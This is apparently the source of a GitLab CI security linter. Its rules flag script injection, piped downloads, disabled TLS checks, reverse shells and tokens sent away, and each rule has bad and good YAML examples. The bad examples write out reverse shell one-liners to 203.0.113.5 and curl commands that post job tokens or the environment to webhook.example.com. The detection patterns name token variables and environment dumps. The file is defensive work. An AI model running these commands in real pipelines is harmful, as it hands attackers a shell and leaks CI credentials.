"""What the scripts of a pipeline do."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator

from yett.model import Action, Confidence, Hit, Rule, Severity
from yett.parse import shell
from yett.parse.gitlab import Pipeline
from yett.rules.commands import is_interactive, off, opens, switches_off
from yett.rules.gitlab_ci.sources import span
from yett.rules.hits import hit, short
from yett.rules.scripts import SHELLS, unseen_downloads, verifies

_PREDEFINED = "https://docs.gitlab.com/ci/variables/predefined_variables/"

INJECTION = Rule(
    id="gitlab-ci/script-injection",
    title="Text from others is run as code",
    severity=Severity.HIGH,
    why=(
        "Whoever opens a merge request or names a branch sets these variables. A shell does not run what is in a "
        "variable, but `eval`, `sh -c`, `ssh` and interpreters read the text they are given as code."
    ),
    fix='Pass the value as an argument of its own: `sh -c \'…"$1"…\' _ "$CI_COMMIT_REF_NAME"`.',
    refs=("CWE-94", "CWE-78", "PCI DSS 6.2.4", _PREDEFINED),
    bad=(
        """\
release:
  script:
    - eval "echo $CI_COMMIT_MESSAGE"  # <- here
    - bash -c "./notify $CI_MERGE_REQUEST_TITLE"  # <- here
    - ssh deploy@shop.example.com "cd shop && git checkout $CI_COMMIT_REF_NAME"  # <- here
    - python -c "print('$CI_COMMIT_TITLE')"  # <- here
""",
        """\
spec:
  inputs:
    folder: {default: .}
---
build:
  script:
    - cd $[[ inputs.folder | expand_vars ]] && make  # <- here
""",
    ),
    good=(
        """\
release:
  script:
    - echo "$CI_COMMIT_MESSAGE"
    - bash -c './notify "$CI_MERGE_REQUEST_TITLE"'
    - bash -c 'echo "$1"' _ "$CI_COMMIT_REF_NAME"
    - ssh deploy@shop.example.com "cd shop && git checkout $CI_COMMIT_SHA"
    - git checkout "$CI_COMMIT_REF_NAME"
""",
        """\
spec:
  inputs:
    folder: {default: .}
---
build:
  image: $[[ inputs.folder | expand_vars ]]
  script:
    - cd $[[ inputs.folder ]] && make
""",
    ),
)
_OTHERS = (
    r"\$\{?(CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG|TAG_MESSAGE|AUTHOR)"
    r"|CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS|MILESTONE)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME"
    r"|CI_BUILD_REF_NAME|GITLAB_USER_NAME)\b"
)
_EXPANDED = r"\$\[\[\s*inputs\.([\w-]+)\s*(?:\|[^\]\n]*)?\|\s*expand_vars\b[^\]\n]*\]\]"
_INTERPRETERS = ("python", "python3", "perl", "ruby", "node", "php")


def injection(pipeline: Pipeline) -> Iterator[Hit]:
    for name, script in pipeline.scripts():
        for pasted in re.finditer(_EXPANDED, script.at.text):
            yield hit(
                pipeline.span(script.at, pasted.start(), pasted.end()),
                f"the input {short(pasted[1], 40)} is pasted into a script with its variables filled in, and the name "
                "of a branch may be among them",
                fix=f"Pass it as a variable: `variables: {{FOLDER: $[[ inputs.{short(pasted[1], 40)} ]]}}`.",
                subject=f"{name} inputs.{pasted[1]} expand_vars",
                severity=Severity.MEDIUM,
                confidence=Confidence.LOW,
            )
        for command in shell.walk(script.commands):
            for word in _code(command):
                found = re.search(_OTHERS, word.text)
                if found and not script.at.text[word.start : word.end].startswith("'"):
                    yield hit(
                        pipeline.span(script.at, word.start, word.end),
                        f"{found[1]} is run as code by {shell.program(command)}, and others set it",
                        fix=f'Pass "${found[1]}" as an argument of its own.',
                        subject=f"{name} {shell.program(command)} {found[1]}",
                    )


def _code(command: shell.Command) -> tuple[shell.Word, ...]:
    """The words of a command that something reads as code."""
    words = shell.argv(command)
    name = shell.program(command)
    if name == "eval":
        return words[1:]
    if name == "ssh":
        # Behind the options stands the host, behind that the command.
        rest = [word for word in words[1:] if not word.text.startswith("-")]
        return tuple(word for word in rest[1:] if " " in word.text or word is not rest[-1] or len(rest) > 1)
    flags = ("-c",) if name in SHELLS or name.startswith("python") else ("-e", "-r", "-E")
    if name in SHELLS or name in _INTERPRETERS:
        for option, word in itertools.pairwise(words):
            if re.fullmatch(r"-[a-zA-Z]*", option.text) and option.text[-1:] in [flag[-1] for flag in flags]:
                return (word,)
    return ()


CURL_PIPE = Rule(
    id="gitlab-ci/curl-pipe-shell",
    title="A download is run unseen",
    severity=Severity.MEDIUM,
    level=Action.WARN,
    why="Whoever holds the server, its name or the way to it runs code in the job, with its variables and token.",
    fix="Download a version, compare its digest, then run it.",
    refs=("CWE-494", "CWE-829", "PCI DSS 6.3.2", "https://curl.se/docs/security.html"),
    bad=(
        """\
test:
  before_script:
    - curl -fsSL https://example.com/install.sh | bash  # <- here
  script:
    - |
      set -e
      bash <(wget -qO- https://example.com/setup.sh)  # <- here
""",
    ),
    good=(
        """\
test:
  script:
    - curl -fsSLo install.sh https://example.com/install-1.2.sh
    - echo "$DIGEST  install.sh" | sha256sum -c && sh install.sh
    - curl -s https://example.com/data.json | python3 -m json.tool
""",
    ),
)


def curl_pipe(pipeline: Pipeline) -> Iterator[Hit]:
    for name, script in pipeline.scripts():
        for word, source in unseen_downloads(script.commands):
            yield hit(
                pipeline.span(script.at, word.start, word.end),
                f"{short(word.text, 20)} runs what {short(source)} gives, unseen",
                subject=f"{name} {source}",
            )


TLS_OFF = Rule(
    id="gitlab-ci/tls-verify-off",
    title="TLS certificates are not checked",
    severity=Severity.HIGH,
    why="What is downloaded can be replaced on the way, and what is uploaded, tokens included, can be read.",
    fix="Install the certificate of your authority instead.",
    refs=("CWE-295", "PCI DSS 6.3.2", "https://docs.gitlab.com/runner/configuration/tls-self-signed/"),
    bad=(
        """\
variables:
  GIT_SSL_NO_VERIFY: "1"  # <- here
test:
  variables:
    NODE_TLS_REJECT_UNAUTHORIZED: "0"  # <- here
  script:
    - curl -k https://example.com/tool.tgz | tar xz  # <- here
    - npm config set strict-ssl false  # <- here
""",
    ),
    good=(
        """\
variables:
  NODE_TLS_REJECT_UNAUTHORIZED: "1"
test:
  script:
    - curl -fsSL https://example.com/tool.tgz | tar xz
    - curl -k http://localhost:8080/health
""",
    ),
)


def tls_off(pipeline: Pipeline) -> Iterator[Hit]:
    for variable in pipeline.variables():
        if switches_off(variable.name, variable.value.text):
            yield hit(
                span(variable.value),
                f"{variable.name} switches the check of certificates off",
                fix=f"Leave {variable.name} out.",
                subject=f"{variable.where} variables.{variable.name}",
            )
    for name, script in pipeline.scripts():
        for command in shell.walk(script.commands):
            word = off(command)
            if word and not (shell.program(command) in ("curl", "wget") and verifies(script.at.text)):
                yield hit(
                    pipeline.span(script.at, word.start, word.end),
                    f"{shell.program(command) or 'this command'} is told not to check certificates",
                    subject=f"{name} {shell.program(command)} {word.text}",
                )


REVERSE_SHELL = Rule(
    id="gitlab-ci/reverse-shell",
    title="A shell is given to the network",
    severity=Severity.CRITICAL,
    why="Whoever listens at the other end runs commands in the job, with its variables and token.",
    fix="Remove it, change what the job had access to, and find out who added it.",
    refs=("CWE-506", "PCI DSS 6.2.4", "https://docs.gitlab.com/ci/pipeline_security/"),
    bad=(
        """\
test:
  script:
    - bash -i >& /dev/tcp/203.0.113.5/4444 0>&1  # <- here
    - nc -e /bin/sh 203.0.113.5 4444  # <- here
""",
    ),
    good=(
        """\
test:
  script:
    - nc -z db 5432
    - bash -i
""",
    ),
)


def reverse_shell(pipeline: Pipeline) -> Iterator[Hit]:
    for name, script in pipeline.scripts():
        for group in shell.pipelines(tuple(shell.walk(script.commands))):
            fed = False
            for command in group:
                if opens(command, fed):
                    yield hit(
                        pipeline.span(script.at, command.start, command.end),
                        f"`{shell.program(command)}` gives a shell to the network",
                        subject=f"{name} {' '.join(word.text for word in command.words)}",
                    )
                fed = fed or is_interactive(command)


SENT = Rule(
    id="gitlab-ci/secret-sent",
    title="Token or environment is sent away",
    severity=Severity.HIGH,
    level=Action.WARN,
    why=(
        "The job's tokens open the registry, other projects and, by OIDC, the cloud. In the body of a request to an "
        "address outside they are somebody else's."
    ),
    fix="Send the token in a header, to GitLab or the service it is meant for, and nothing of the environment.",
    refs=("CWE-200", "CWE-522", "PCI DSS 8.6.2", _PREDEFINED),
    confidence=Confidence.MEDIUM,
    bad=(
        """\
test:
  script:
    - curl --data "$CI_JOB_JWT_V1" https://webhook.example.com/a  # <- here
    - env | curl -d @- https://webhook.example.com/b  # <- here
    - |
      printenv > env.json
      curl -X POST --data "@env.json" https://webhook.example.com/c  # <- here
""",
    ),
    good=(
        """\
test:
  script:
    - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects"'
    - curl -d "ref=$CI_COMMIT_SHA" https://hooks.example.com/build
    - curl --data "token=$CI_JOB_TOKEN" "$CI_API_V4_URL/projects/1/trigger/pipeline"
""",
    ),
)
_TOKEN = r"\$\{?CI_(?:JOB_JWT\w*|JOB_TOKEN|REGISTRY_PASSWORD|DEPLOY_PASSWORD|REPOSITORY_URL)\b"
_BODY = ("-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "-F", "--form", "--post-data", "--json")
_DUMPS = r"\b(?:env|printenv|export -p|declare -x)\b\s*(?:\||>)|os\.environ|process\.env\b"


def sent(pipeline: Pipeline) -> Iterator[Hit]:
    for name, script in pipeline.scripts():
        dumped = set(re.findall(r">\s*[\"']?([\w./-]+)", script.at.text)) if _dumps(script.at.text) else set()
        for group in shell.pipelines(tuple(shell.walk(script.commands))):
            for command in group:
                body = _body(command)
                if body is None or not _is_outside(command):
                    continue
                piped = body.text == "@-" and shell.program(group[0]) in ("env", "printenv", "export")
                piped = piped or (body.text == "@-" and [w.text for w in group[0].words[:1]] in (["env"], ["printenv"]))
                if re.search(_TOKEN, body.text) or piped or body.text.lstrip("@") in dumped:
                    yield hit(
                        pipeline.span(script.at, command.start, command.end),
                        f"{'a token' if re.search(_TOKEN, body.text) else 'the environment'} is sent away",
                        subject=f"{name} sends {body.text}",
                    )


def _dumps(text: str) -> bool:
    return re.search(_DUMPS, text) is not None


def _body(command: shell.Command) -> shell.Word | None:
    words = shell.argv(command)
    if shell.program(command) not in ("curl", "wget", "http", "https"):
        return None
    for option, word in itertools.pairwise(words):
        if option.text in _BODY:
            return word
    return next((word for word in words if word.text.startswith(("--data=", "--post-data=", "--post-file="))), None)


def _is_outside(command: shell.Command) -> bool:
    return not any(re.search(r"\$\{?CI_(?:API|SERVER|PROJECT|PAGES)", word.text) for word in shell.argv(command))


RULES = (
    (INJECTION, injection),
    (CURL_PIPE, curl_pipe),
    (TLS_OFF, tls_off),
    (REVERSE_SHELL, reverse_shell),
    (SENT, sent),
)
